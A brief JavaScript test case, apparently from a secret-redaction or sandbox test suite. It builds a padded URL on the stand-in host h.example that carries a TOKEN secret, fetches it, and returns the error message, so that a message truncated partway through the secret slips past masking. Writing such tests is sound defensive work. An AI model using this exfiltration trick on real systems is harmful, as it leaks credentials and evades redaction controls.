// attack: have a helper quote an address that it cuts off within the secret
// grants: fetch:strict
// secret: TOKEN=Hunter2/Sesame+42/Hunter3/Sesame+43
// expect: never Hunter2
// The helper shows 120 characters and goes on.
const address = "https://h.example/?".padEnd(103, "x") + "&key=" + TOKEN + "\n!";
try {
  await fetch(address);
} catch (error) {
  return error.message;
}
